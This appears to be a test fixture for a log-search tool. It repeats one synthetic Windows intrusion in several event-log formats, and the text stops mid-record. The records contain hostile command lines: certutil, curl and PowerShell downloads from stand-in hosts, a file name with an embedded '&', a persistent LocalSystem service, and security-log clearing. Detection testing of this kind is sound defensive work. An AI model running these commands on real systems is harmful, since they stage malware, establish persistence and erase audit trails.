# words and phrases of the scope find the same events in every shape
--- query
_sourceCategory=shape/* certutil* "files.cdn-stage.example" | count by _sourcecategory
--- input-evtx:records=4 shape/evtx=evtx-Events.evtx
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},"EventID":1,"Version":5,"Level":4,"Task":1,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:01.000000Z"}},"EventRecordID":74174,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws5.corp.example","Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{"RuleName":"-","UtcTime":"2026-11-24 08:00:01.000","ProcessGuid":"5AA13A44-0C90-68FC-0001-000000004002","ProcessId":5320,"Image":"C:\\Windows\\System32\\certutil.exe","OriginalFileName":"CertUtil.exe","CommandLine":"certutil.exe -urlcache -split -f http://files.cdn-stage.example/up/update.exe \"C:\\Users\\Public\\update & go.exe\"","CurrentDirectory":"C:\\Users\\amara\\","User":"CORP\\amara","LogonGuid":"5AA13A44-0C90-68FC-0002-000000004002","LogonId":"0x3e7a1","TerminalSessionId":1,"IntegrityLevel":"Medium","Hashes":"MD5=5D41402ABC4B2A76B9719D911017C592,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744","ParentProcessGuid":"5AA13A44-0C90-68FC-0003-000000004002","ParentProcessId":4100,"ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"\"C:\\Windows\\system32\\cmd.exe\" /c stage.bat","ParentUser":"CORP\\amara"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},"EventID":22,"Version":5,"Level":4,"Task":22,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:02.000000Z"}},"EventRecordID":74175,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws5.corp.example","Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{"RuleName":"-","UtcTime":"2026-11-24 08:00:02.000","ProcessGuid":"5AA13A44-0C90-68FC-0001-000000004002","ProcessId":5320,"QueryName":"files.cdn-stage.example","QueryStatus":"0","QueryResults":"::ffff:203.0.113.20;","Image":"C:\\Windows\\System32\\certutil.exe","User":"CORP\\amara"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},"EventID":3,"Version":5,"Level":4,"Task":3,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:03.000000Z"}},"EventRecordID":74176,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws5.corp.example","Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{"RuleName":"-","UtcTime":"2026-11-24 08:00:03.000","ProcessGuid":"5AA13A44-0C90-68FC-0001-000000004002","ProcessId":5320,"Image":"C:\\Windows\\System32\\certutil.exe","User":"CORP\\amara","Protocol":"tcp","Initiated":true,"SourceIsIpv6":false,"SourceIp":"192.0.2.5","SourceHostname":"ws5.corp.example","SourcePort":50123,"DestinationIsIpv6":false,"DestinationIp":"203.0.113.20","DestinationHostname":"files.cdn-stage.example","DestinationPort":80}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},"EventID":11,"Version":5,"Level":4,"Task":11,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:04.000000Z"}},"EventRecordID":74177,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws5.corp.example","Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{"RuleName":"-","UtcTime":"2026-11-24 08:00:04.000","ProcessGuid":"5AA13A44-0C90-68FC-0001-000000004002","ProcessId":5320,"Image":"C:\\Windows\\System32\\certutil.exe","TargetFilename":"C:\\Users\\Public\\update & go.exe","CreationUtcTime":"2026-11-24 08:00:04.000","User":"CORP\\amara"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing","Guid":"54849625-5478-4994-A5BA-3E3B0328C30D"}},"EventID":4688,"Version":2,"Level":4,"Task":13312,"Opcode":0,"Keywords":"0x8020000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:05.000000Z"}},"EventRecordID":74178,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"Security","Computer":"ws5.corp.example","Security":null},"EventData":{"SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","SubjectUserName":"amara","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7a1","NewProcessId":"0x1a2c","NewProcessName":"C:\\Windows\\System32\\curl.exe","TokenElevationType":"%%1938","ProcessId":"0x1004","CommandLine":"curl.exe -o C:\\Users\\Public\\größe.bin https://paste.example/r/7","TargetUserSid":"S-1-0-0","TargetUserName":"-","TargetDomainName":"-","TargetLogonId":"0x0","ParentProcessName":"C:\\Windows\\System32\\cmd.exe","MandatoryLabel":"S-1-16-8192"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing","Guid":"54849625-5478-4994-A5BA-3E3B0328C30D"}},"EventID":4624,"Version":2,"Level":4,"Task":12544,"Opcode":0,"Keywords":"0x8020000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:06.000000Z"}},"EventRecordID":74179,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"Security","Computer":"ws5.corp.example","Security":null},"EventData":{"SubjectUserSid":"S-1-0-0","SubjectUserName":"-","SubjectDomainName":"-","SubjectLogonId":"0x0","TargetUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","TargetUserName":"amara","TargetDomainName":"CORP","TargetLogonId":"0x51f02","LogonType":3,"LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","WorkstationName":"WS9","LogonGuid":"00000000-0000-0000-0000-000000000000","TransmittedServices":"-","LmPackageName":"NTLM V2","KeyLength":128,"ProcessId":"0x0","ProcessName":"-","IpAddress":"192.0.2.9","IpPort":"49771","ImpersonationLevel":"%%1833"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-PowerShell","Guid":"A0C1853B-5C40-4B15-8766-3CF1C58F985A"}},"EventID":4104,"Version":1,"Level":4,"Task":2,"Opcode":0,"Keywords":"0x0","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:07.000000Z"}},"EventRecordID":74180,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"ws5.corp.example","Security":{"#attributes":{"UserID":"S-1-5-21-1004336348-1177238915-682003330-1107"}}},"EventData":{"MessageNumber":1,"MessageTotal":1,"ScriptBlockText":"if (1 -lt 2) { iwr 'https://paste.example/r/8' -OutFile $env:TEMP\\a.dll }\n# \"done\"","ScriptBlockId":"0d7f3a1e-55b1-4f0e-9a55-0c1f6c3b8a11","Path":"C:\\Users\\amara\\stage.ps1"}},"types":{"EventData.ScriptBlockId":"string"}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Service Control Manager","Guid":"555908D1-A6D7-4695-8E1E-26931D2012F4"}},"EventID":{"#attributes":{"Qualifiers":16384},"#text":7045},"Version":0,"Level":4,"Task":0,"Opcode":0,"Keywords":"0x8080000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:08.000000Z"}},"EventRecordID":74181,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"System","Computer":"ws5.corp.example","Security":{"#attributes":{"UserID":"S-1-5-21-1004336348-1177238915-682003330-1107"}}},"EventData":{"ServiceName":"Updater","ImagePath":"\"C:\\Users\\Public\\update & go.exe\" /svc","ServiceType":"user mode service","StartType":"auto start","AccountName":"LocalSystem"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog","Guid":"FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148"}},"EventID":1102,"Version":0,"Level":4,"Task":104,"Opcode":0,"Keywords":"0x4020000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:09.000000Z"}},"EventRecordID":74182,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"Security","Computer":"ws5.corp.example","Security":null},"UserData":{"LogFileCleared":{"#attributes":{"xmlns":"http://manifests.microsoft.com/win/2004/08/windows/eventlog"},"SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","SubjectUserName":"amara","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7a1"}}}}
--- input shape/evtx-dump-lines=evtx-dump-lines-events.jsonl
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},"EventID":1,"Version":5,"Level":4,"Task":1,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:01.000000Z"}},"EventRecordID":74174,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws5.corp.example","Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{"RuleName":"-","UtcTime":"2026-11-24 08:00:01.000","ProcessGuid":"5AA13A44-0C90-68FC-0001-000000004002","ProcessId":5320,"Image":"C:\\Windows\\System32\\certutil.exe","OriginalFileName":"CertUtil.exe","CommandLine":"certutil.exe -urlcache -split -f http://files.cdn-stage.example/up/update.exe \"C:\\Users\\Public\\update & go.exe\"","CurrentDirectory":"C:\\Users\\amara\\","User":"CORP\\amara","LogonGuid":"5AA13A44-0C90-68FC-0002-000000004002","LogonId":"0x3e7a1","TerminalSessionId":1,"IntegrityLevel":"Medium","Hashes":"MD5=5D41402ABC4B2A76B9719D911017C592,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744","ParentProcessGuid":"5AA13A44-0C90-68FC-0003-000000004002","ParentProcessId":4100,"ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"\"C:\\Windows\\system32\\cmd.exe\" /c stage.bat","ParentUser":"CORP\\amara"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},"EventID":22,"Version":5,"Level":4,"Task":22,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:02.000000Z"}},"EventRecordID":74175,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws5.corp.example","Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{"RuleName":"-","UtcTime":"2026-11-24 08:00:02.000","ProcessGuid":"5AA13A44-0C90-68FC-0001-000000004002","ProcessId":5320,"QueryName":"files.cdn-stage.example","QueryStatus":"0","QueryResults":"::ffff:203.0.113.20;","Image":"C:\\Windows\\System32\\certutil.exe","User":"CORP\\amara"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},"EventID":3,"Version":5,"Level":4,"Task":3,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:03.000000Z"}},"EventRecordID":74176,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws5.corp.example","Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{"RuleName":"-","UtcTime":"2026-11-24 08:00:03.000","ProcessGuid":"5AA13A44-0C90-68FC-0001-000000004002","ProcessId":5320,"Image":"C:\\Windows\\System32\\certutil.exe","User":"CORP\\amara","Protocol":"tcp","Initiated":true,"SourceIsIpv6":false,"SourceIp":"192.0.2.5","SourceHostname":"ws5.corp.example","SourcePort":50123,"DestinationIsIpv6":false,"DestinationIp":"203.0.113.20","DestinationHostname":"files.cdn-stage.example","DestinationPort":80}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},"EventID":11,"Version":5,"Level":4,"Task":11,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:04.000000Z"}},"EventRecordID":74177,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws5.corp.example","Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{"RuleName":"-","UtcTime":"2026-11-24 08:00:04.000","ProcessGuid":"5AA13A44-0C90-68FC-0001-000000004002","ProcessId":5320,"Image":"C:\\Windows\\System32\\certutil.exe","TargetFilename":"C:\\Users\\Public\\update & go.exe","CreationUtcTime":"2026-11-24 08:00:04.000","User":"CORP\\amara"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing","Guid":"54849625-5478-4994-A5BA-3E3B0328C30D"}},"EventID":4688,"Version":2,"Level":4,"Task":13312,"Opcode":0,"Keywords":"0x8020000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:05.000000Z"}},"EventRecordID":74178,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"Security","Computer":"ws5.corp.example","Security":null},"EventData":{"SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","SubjectUserName":"amara","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7a1","NewProcessId":"0x1a2c","NewProcessName":"C:\\Windows\\System32\\curl.exe","TokenElevationType":"%%1938","ProcessId":"0x1004","CommandLine":"curl.exe -o C:\\Users\\Public\\größe.bin https://paste.example/r/7","TargetUserSid":"S-1-0-0","TargetUserName":"-","TargetDomainName":"-","TargetLogonId":"0x0","ParentProcessName":"C:\\Windows\\System32\\cmd.exe","MandatoryLabel":"S-1-16-8192"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing","Guid":"54849625-5478-4994-A5BA-3E3B0328C30D"}},"EventID":4624,"Version":2,"Level":4,"Task":12544,"Opcode":0,"Keywords":"0x8020000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:06.000000Z"}},"EventRecordID":74179,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"Security","Computer":"ws5.corp.example","Security":null},"EventData":{"SubjectUserSid":"S-1-0-0","SubjectUserName":"-","SubjectDomainName":"-","SubjectLogonId":"0x0","TargetUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","TargetUserName":"amara","TargetDomainName":"CORP","TargetLogonId":"0x51f02","LogonType":3,"LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","WorkstationName":"WS9","LogonGuid":"00000000-0000-0000-0000-000000000000","TransmittedServices":"-","LmPackageName":"NTLM V2","KeyLength":128,"ProcessId":"0x0","ProcessName":"-","IpAddress":"192.0.2.9","IpPort":"49771","ImpersonationLevel":"%%1833"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-PowerShell","Guid":"A0C1853B-5C40-4B15-8766-3CF1C58F985A"}},"EventID":4104,"Version":1,"Level":4,"Task":2,"Opcode":0,"Keywords":"0x0","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:07.000000Z"}},"EventRecordID":74180,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"ws5.corp.example","Security":{"#attributes":{"UserID":"S-1-5-21-1004336348-1177238915-682003330-1107"}}},"EventData":{"MessageNumber":1,"MessageTotal":1,"ScriptBlockText":"if (1 -lt 2) { iwr 'https://paste.example/r/8' -OutFile $env:TEMP\\a.dll }\n# \"done\"","ScriptBlockId":"0d7f3a1e-55b1-4f0e-9a55-0c1f6c3b8a11","Path":"C:\\Users\\amara\\stage.ps1"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Service Control Manager","Guid":"555908D1-A6D7-4695-8E1E-26931D2012F4"}},"EventID":{"#attributes":{"Qualifiers":16384},"#text":7045},"Version":0,"Level":4,"Task":0,"Opcode":0,"Keywords":"0x8080000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:08.000000Z"}},"EventRecordID":74181,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"System","Computer":"ws5.corp.example","Security":{"#attributes":{"UserID":"S-1-5-21-1004336348-1177238915-682003330-1107"}}},"EventData":{"ServiceName":"Updater","ImagePath":"\"C:\\Users\\Public\\update & go.exe\" /svc","ServiceType":"user mode service","StartType":"auto start","AccountName":"LocalSystem"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog","Guid":"FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148"}},"EventID":1102,"Version":0,"Level":4,"Task":104,"Opcode":0,"Keywords":"0x4020000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:09.000000Z"}},"EventRecordID":74182,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3308,"ThreadID":4008}},"Channel":"Security","Computer":"ws5.corp.example","Security":null},"UserData":{"LogFileCleared":{"#attributes":{"xmlns":"http://manifests.microsoft.com/win/2004/08/windows/eventlog"},"SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-1107","SubjectUserName":"amara","SubjectDomainName":"CORP","SubjectLogonId":"0x3e7a1"}}}}
--- input shape/evtx-dump-pretty=evtx-dump-pretty-events.json
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Sysmon",
          "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
        }
      },
      "EventID": 1,
      "Version": 5,
      "Level": 4,
      "Task": 1,
      "Opcode": 0,
      "Keywords": "0x8000000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:01.000000Z"
        }
      },
      "EventRecordID": 74174,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Microsoft-Windows-Sysmon/Operational",
      "Computer": "ws5.corp.example",
      "Security": {
        "#attributes": {
          "UserID": "S-1-5-18"
        }
      }
    },
    "EventData": {
      "RuleName": "-",
      "UtcTime": "2026-11-24 08:00:01.000",
      "ProcessGuid": "5AA13A44-0C90-68FC-0001-000000004002",
      "ProcessId": 5320,
      "Image": "C:\\Windows\\System32\\certutil.exe",
      "OriginalFileName": "CertUtil.exe",
      "CommandLine": "certutil.exe -urlcache -split -f http://files.cdn-stage.example/up/update.exe \"C:\\Users\\Public\\update & go.exe\"",
      "CurrentDirectory": "C:\\Users\\amara\\",
      "User": "CORP\\amara",
      "LogonGuid": "5AA13A44-0C90-68FC-0002-000000004002",
      "LogonId": "0x3e7a1",
      "TerminalSessionId": 1,
      "IntegrityLevel": "Medium",
      "Hashes": "MD5=5D41402ABC4B2A76B9719D911017C592,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744",
      "ParentProcessGuid": "5AA13A44-0C90-68FC-0003-000000004002",
      "ParentProcessId": 4100,
      "ParentImage": "C:\\Windows\\System32\\cmd.exe",
      "ParentCommandLine": "\"C:\\Windows\\system32\\cmd.exe\" /c stage.bat",
      "ParentUser": "CORP\\amara"
    }
  }
}
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Sysmon",
          "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
        }
      },
      "EventID": 22,
      "Version": 5,
      "Level": 4,
      "Task": 22,
      "Opcode": 0,
      "Keywords": "0x8000000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:02.000000Z"
        }
      },
      "EventRecordID": 74175,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Microsoft-Windows-Sysmon/Operational",
      "Computer": "ws5.corp.example",
      "Security": {
        "#attributes": {
          "UserID": "S-1-5-18"
        }
      }
    },
    "EventData": {
      "RuleName": "-",
      "UtcTime": "2026-11-24 08:00:02.000",
      "ProcessGuid": "5AA13A44-0C90-68FC-0001-000000004002",
      "ProcessId": 5320,
      "QueryName": "files.cdn-stage.example",
      "QueryStatus": "0",
      "QueryResults": "::ffff:203.0.113.20;",
      "Image": "C:\\Windows\\System32\\certutil.exe",
      "User": "CORP\\amara"
    }
  }
}
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Sysmon",
          "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
        }
      },
      "EventID": 3,
      "Version": 5,
      "Level": 4,
      "Task": 3,
      "Opcode": 0,
      "Keywords": "0x8000000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:03.000000Z"
        }
      },
      "EventRecordID": 74176,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Microsoft-Windows-Sysmon/Operational",
      "Computer": "ws5.corp.example",
      "Security": {
        "#attributes": {
          "UserID": "S-1-5-18"
        }
      }
    },
    "EventData": {
      "RuleName": "-",
      "UtcTime": "2026-11-24 08:00:03.000",
      "ProcessGuid": "5AA13A44-0C90-68FC-0001-000000004002",
      "ProcessId": 5320,
      "Image": "C:\\Windows\\System32\\certutil.exe",
      "User": "CORP\\amara",
      "Protocol": "tcp",
      "Initiated": true,
      "SourceIsIpv6": false,
      "SourceIp": "192.0.2.5",
      "SourceHostname": "ws5.corp.example",
      "SourcePort": 50123,
      "DestinationIsIpv6": false,
      "DestinationIp": "203.0.113.20",
      "DestinationHostname": "files.cdn-stage.example",
      "DestinationPort": 80
    }
  }
}
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Sysmon",
          "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
        }
      },
      "EventID": 11,
      "Version": 5,
      "Level": 4,
      "Task": 11,
      "Opcode": 0,
      "Keywords": "0x8000000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:04.000000Z"
        }
      },
      "EventRecordID": 74177,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Microsoft-Windows-Sysmon/Operational",
      "Computer": "ws5.corp.example",
      "Security": {
        "#attributes": {
          "UserID": "S-1-5-18"
        }
      }
    },
    "EventData": {
      "RuleName": "-",
      "UtcTime": "2026-11-24 08:00:04.000",
      "ProcessGuid": "5AA13A44-0C90-68FC-0001-000000004002",
      "ProcessId": 5320,
      "Image": "C:\\Windows\\System32\\certutil.exe",
      "TargetFilename": "C:\\Users\\Public\\update & go.exe",
      "CreationUtcTime": "2026-11-24 08:00:04.000",
      "User": "CORP\\amara"
    }
  }
}
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Security-Auditing",
          "Guid": "54849625-5478-4994-A5BA-3E3B0328C30D"
        }
      },
      "EventID": 4688,
      "Version": 2,
      "Level": 4,
      "Task": 13312,
      "Opcode": 0,
      "Keywords": "0x8020000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:05.000000Z"
        }
      },
      "EventRecordID": 74178,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Security",
      "Computer": "ws5.corp.example",
      "Security": null
    },
    "EventData": {
      "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1107",
      "SubjectUserName": "amara",
      "SubjectDomainName": "CORP",
      "SubjectLogonId": "0x3e7a1",
      "NewProcessId": "0x1a2c",
      "NewProcessName": "C:\\Windows\\System32\\curl.exe",
      "TokenElevationType": "%%1938",
      "ProcessId": "0x1004",
      "CommandLine": "curl.exe -o C:\\Users\\Public\\größe.bin https://paste.example/r/7",
      "TargetUserSid": "S-1-0-0",
      "TargetUserName": "-",
      "TargetDomainName": "-",
      "TargetLogonId": "0x0",
      "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
      "MandatoryLabel": "S-1-16-8192"
    }
  }
}
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Security-Auditing",
          "Guid": "54849625-5478-4994-A5BA-3E3B0328C30D"
        }
      },
      "EventID": 4624,
      "Version": 2,
      "Level": 4,
      "Task": 12544,
      "Opcode": 0,
      "Keywords": "0x8020000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:06.000000Z"
        }
      },
      "EventRecordID": 74179,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Security",
      "Computer": "ws5.corp.example",
      "Security": null
    },
    "EventData": {
      "SubjectUserSid": "S-1-0-0",
      "SubjectUserName": "-",
      "SubjectDomainName": "-",
      "SubjectLogonId": "0x0",
      "TargetUserSid": "S-1-5-21-1004336348-1177238915-682003330-1107",
      "TargetUserName": "amara",
      "TargetDomainName": "CORP",
      "TargetLogonId": "0x51f02",
      "LogonType": 3,
      "LogonProcessName": "NtLmSsp ",
      "AuthenticationPackageName": "NTLM",
      "WorkstationName": "WS9",
      "LogonGuid": "00000000-0000-0000-0000-000000000000",
      "TransmittedServices": "-",
      "LmPackageName": "NTLM V2",
      "KeyLength": 128,
      "ProcessId": "0x0",
      "ProcessName": "-",
      "IpAddress": "192.0.2.9",
      "IpPort": "49771",
      "ImpersonationLevel": "%%1833"
    }
  }
}
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-PowerShell",
          "Guid": "A0C1853B-5C40-4B15-8766-3CF1C58F985A"
        }
      },
      "EventID": 4104,
      "Version": 1,
      "Level": 4,
      "Task": 2,
      "Opcode": 0,
      "Keywords": "0x0",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:07.000000Z"
        }
      },
      "EventRecordID": 74180,
      "Correlation": null,
      "Execution": {
        "#attributes": {
